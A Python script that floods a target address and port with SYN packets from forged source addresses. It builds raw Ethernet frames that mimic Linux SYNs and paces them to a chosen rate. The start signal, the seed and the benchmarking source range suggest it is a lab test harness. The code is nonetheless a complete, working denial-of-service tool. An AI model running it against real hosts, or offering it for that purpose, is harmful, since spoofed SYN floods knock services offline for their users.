# SPDX-License-Identifier: Apache-2.0
"""Sends SYNs from forged IPv4 addresses until SIGTERM.

    synflood.py INTERFACE DESTINATION_MAC VIP PORT PACKETS_PER_SECOND SEED

Each has the options of Linux's SYNs and a correct checksum, so a server cannot distinguish it from a client's until its SYN-ACK
gets no answer. The sources are in 198.19.0.0/16. The program prints `ready` and starts at SIGUSR1. At SIGTERM, it prints the
number of packets.
"""

import random
import signal
import socket
import struct
import sys
import time

SOURCES = int.from_bytes(socket.inet_aton("198.19.0.0"), "big")
FRAMES = 20_000
"""Number of different SYNs, which repeat."""
AT_ONCE = 50
"""Packets between two readings of the clock."""
OPTIONS = bytes.fromhex("020405b4" + "0402080a" + "00000007" + "00000000" + "01030307")


def checksum(data: bytes) -> int:
    return 0xFFFF - int.from_bytes(data, "big") % 0xFFFF


def syn(mac: bytes, vip: bytes, port: int, rng: random.Random) -> bytes:
    source = (SOURCES + rng.randrange(1, 1 << 16)).to_bytes(4, "big")
    length = 20 + len(OPTIONS)
    tcp = struct.pack(">HHIIBBHHH", rng.randrange(1024, 1 << 16), port, rng.getrandbits(32), 0, length // 4 << 4, 2, 64240, 0, 0)
    tcp += OPTIONS
    total = checksum(source + vip + struct.pack(">HH", 6, length) + tcp)
    tcp = tcp[:16] + struct.pack(">H", total) + tcp[18:]
    head = struct.pack(">BBHHHBBH", 0x45, 0, 20 + length, 0, 0x4000, 64, 6, 0) + source + vip
    head = head[:10] + struct.pack(">H", checksum(head)) + head[12:]
    return mac + bytes.fromhex("0200000001020800") + head + tcp


def main(interface: str, mac: str, vip: str, port: str, rate: str, seed: str) -> None:
    rng = random.Random(seed)
    to, at = bytes.fromhex(mac.replace(":", "")), socket.inet_aton(vip)
    frames = [syn(to, at, int(port), rng) for _ in range(FRAMES)]
    out = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    out.bind((interface, 0))
    sent = 0

    def stop(*_: object) -> None:
        print(sent, flush=True)
        sys.exit(0)

    signal.signal(signal.SIGTERM, stop)
    signal.pthread_sigmask(signal.SIG_BLOCK, {signal.SIGUSR1})
    print("ready", flush=True)
    signal.sigwait({signal.SIGUSR1})
    begun = time.monotonic()
    while True:
        # A pause of the machine is not made up for.
        late = time.monotonic() - begun - sent / int(rate)
        if late > 1:
            begun += late
        time.sleep(max(0.0, -late))
        for frame in (frames[(sent + n) % FRAMES] for n in range(AT_ONCE)):
            out.send(frame)
        sent += AT_ONCE


if __name__ == "__main__":
    main(*sys.argv[1:])
